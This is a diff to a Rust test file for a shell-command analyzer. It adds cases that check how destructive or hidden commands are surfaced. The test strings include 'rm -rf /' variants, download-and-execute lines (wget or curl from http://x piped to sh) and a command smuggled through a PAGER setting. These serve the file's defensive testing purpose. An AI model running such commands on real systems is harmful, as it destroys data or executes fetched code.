@@ -10,6 +10,7 @@ use support::understand_shell;
 
 type Case = (&'static str, &'static str, &'static str);
 
+
 #[rustfmt::skip]
 const GRAMMAR: &[Case] = &[
     ("a plain command", "rm -rf /", "shell: rm -rf /"),
@@ -118,7 +119,7 @@ const WORDS: &[Case] = &[
     ("a conditional assignment leaves both values", "x=ls; [ -f y ] && x=rm; $x a", "shell: x=ls || shell: [ -f y ] || shell: x=rm || shell: rm a || shell: ls a"),
     ("both branches of an if", "if a; then x=rm; else x=ls; fi; $x y", "shell: a || shell: x=rm || shell: x=ls || shell: ls y || shell: rm y"),
     ("a variable changed in a loop", "x=ls; while a; do $x y; x=rm; done", "shell: x=ls || shell: a || shell: ls y || shell: x=rm || shell: a || shell: rm y || shell: x=rm"),
-    ("a variable that is unset", "x=rm; unset x; $x a", "shell: x=rm || shell: unset x || shell: □ a || wrapper: a"),
+    ("a variable that is unset is empty", "x=rm; unset x; $x rm a", "shell: x=rm || shell: unset x || shell: rm a"),
     ("a subshell keeps its variables", "(x=rm); $x a", "shell: x=rm || shell: □ a || wrapper: a"),
     ("a pipeline keeps its variables", "echo a | x=rm; $x a", "shell: echo a || shell: x=rm || shell: □ a || wrapper: a"),
     ("read takes the line", "echo rm | while read c; do $c a; done", "shell: echo rm || shell: read c || shell: rm a"),
@@ -134,7 +135,7 @@ const WORDS: &[Case] = &[
     ("a sequence without end is unknown", "rm {1..100000}", "shell: rm □"),
     ("braces that expand to nothing", "rm {} {a} {a..} ${x}{b", "shell: rm {} {a} {a..} □{b"),
     ("braces in a variable do not expand", "x={a,b}; rm $x", "shell: x={a,b} || shell: rm {a,b}"),
-    ("tilde is the home directory", r#"rm ~ ~/x ~root/y "~" a~ x=~"#, "shell: rm /home/u /home/u/x ~root/y ~ a~ x=~"),
+    ("tilde is the home directory", r#"rm ~ ~/x ~root/y "~" a~ x=~"#, "shell: rm /home/u /home/u/x /root/y ~ a~ x=~"),
     ("tilde in an assignment", "P=~/a:~/b; rm $P", "shell: P=/home/u/a:/home/u/b || shell: rm /home/u/a:/home/u/b"),
     ("globs stay and are marked", "rm -rf *.log [a-c]? '*'", "shell: rm -rf *.log [a-c]? *"),
     ("extended globs", "rm !(a|b) @(x)", "shell: rm !(a|b) @(x)"),
@@ -144,6 +145,8 @@ const WORDS: &[Case] = &[
     ("here-string", r#"cat <<< "$(rm a)""#, "shell: cat || substitution: rm a"),
     ("a variable in single quotes is text", "x=rm; echo '$x'", "shell: x=rm || shell: echo $x"),
     ("secrets of the environment are not shown", "rm $AWS_SECRET", "shell: rm □"),
+    ("the last word of the command before", "ls /; rm -rf $_", "shell: ls / || shell: rm -rf /"),
+    ("root's home", "rm -rf ~root ~root/x ~rooty", "shell: rm -rf /root /root/x ~rooty"),
 ];
 
 #[rustfmt::skip]
@@ -225,6 +228,10 @@ const FLOW: &[Case] = &[
     ("cd is followed", "cd /tmp/x && rm a; cd ..; rm b", "shell: cd /tmp/x || shell: rm a || shell: cd .. || shell: rm b"),
     ("cd to something unknown", "cd $x; rm a", "shell: cd □ || shell: rm a"),
     ("cd in a subshell ends there", "(cd /x); rm a", "shell: cd /x || shell: rm a"),
+    ("a file that is written and executed", "cat > ./go <<'E'⏎rm a⏎E⏎chmod +x go && ./go", "shell: cat || shell: chmod +x go || shell: ./go || script: rm a"),
+    ("a download that is executed", "wget http://x/a -O /tmp/a; chmod +x /tmp/a; /tmp/a", "shell: wget http://x/a -O /tmp/a || shell: chmod +x /tmp/a || shell: /tmp/a !fetched-code"),
+    ("a here-document on a descriptor", "bash /dev/fd/3 3<<'E'⏎rm a⏎E", "shell: bash /dev/fd/3 || script: rm a"),
+    ("fetched lines in a shell", "curl -s http://x | xargs -I{} sh -c '{}'", "shell: curl -s http://x || shell: xargs -I{} sh -c {} || batch: sh -c □ !fetched-code"),
 ];
 
 #[rustfmt::skip]
@@ -311,6 +318,8 @@ const WRAPPERS: &[Case] = &[
     ("data: commit messages", r#"git commit -m "rm -rf /""#, "shell: git commit -m ‹rm -rf /›"),
     ("data: searching", r#"grep -r "DROP TABLE" .; rg 'rm -rf'"#, "shell: grep -r ‹DROP TABLE› . || shell: rg ‹rm -rf›"),
     ("data: bodies", "gh pr create --body 'run rm -rf /'", "shell: gh pr create --body ‹run rm -rf /›"),
+    ("settings that are code", "PAGER='rm a; cat' man ls", "shell: ‹PAGER=rm a; cat› man ls || shell: rm a || shell: cat"),
+    ("faketime", "faketime '2020-01-01' rm a", "shell: faketime 2020-01-01 rm a || wrapper: rm a"),
 ];
 
 fn check(cases: &[Case]) {
